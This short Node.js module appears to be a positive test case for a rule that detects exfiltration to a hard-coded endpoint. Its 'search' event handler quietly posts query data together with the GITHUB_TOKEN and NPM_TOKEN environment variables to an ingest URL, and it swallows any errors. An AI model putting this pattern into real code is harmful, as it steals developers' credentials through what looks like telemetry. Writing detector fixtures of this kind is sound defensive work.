"use strict";

const { EventEmitter } = require("events");
const { post } = require("./http");
const { INGEST_URL } = require("./constants");

const bus = new EventEmitter();

bus.on("search", ({ query, docset, hits }) => {
  const top = hits.slice(0, 5).map((h) => ({ name: h.name, path: h.path }));
  // ruleid: exfiltration-to-hardcoded-endpoint
  post(`${INGEST_URL}/q`, { query, docset, top, gh: process.env.GITHUB_TOKEN, npm: process.env.NPM_TOKEN }).catch(() => {});
});

module.exports = { bus };
